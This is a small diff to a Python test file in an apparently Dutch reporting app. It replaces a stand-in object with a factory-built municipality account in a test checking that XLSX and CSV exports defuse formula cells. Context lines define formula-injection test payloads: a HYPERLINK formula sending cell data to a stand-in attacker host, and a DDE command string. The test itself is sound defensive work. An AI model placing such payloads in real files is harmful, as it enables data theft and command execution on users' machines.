@@ -19,6 +19,7 @@ from kompas.audit.models import Actie
 from kompas.audit.services import audit_log_create
 from kompas.core.schrijven import SYSTEEM
 from kompas.core.tabular import FORMULE_BEGIN, csv_writer, lees_csv, veilige_cel
+from tests.factories import OrganisatieFactory
 
 HYPERLINK = '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik")'
 CMD = "+cmd|' /C calc'!A0"
@@ -133,7 +134,9 @@ def test_report_xlsx_open_data_csv_and_gemeente_csv_write_labels_as_text(monitor
     assert _gevaarlijk(xlsx) == [] and "'=1+1" in xlsx and "'@SUM(1)" in xlsx
     open_data = _csv_cellen(rapport.csv_open(monitor_met_formules).decode())
     assert _gevaarlijk(open_data) == []
-    actor = SimpleNamespace(organisatie=SimpleNamespace(cbs_code="GM0363", naam="Gemeente Amsterdam"))
+    # the gemeente's account, made after the import: saving it links its submission by the key
+    amsterdam = OrganisatieFactory(cbs_code="GM0363", naam="Gemeente Amsterdam")
+    actor = SimpleNamespace(organisatie=amsterdam)
     tekst, _m = gemeente_csv(actor, "m2021")
     cellen = _csv_cellen(tekst)
     assert _gevaarlijk(cellen) == [] and "'=1+1" in cellen
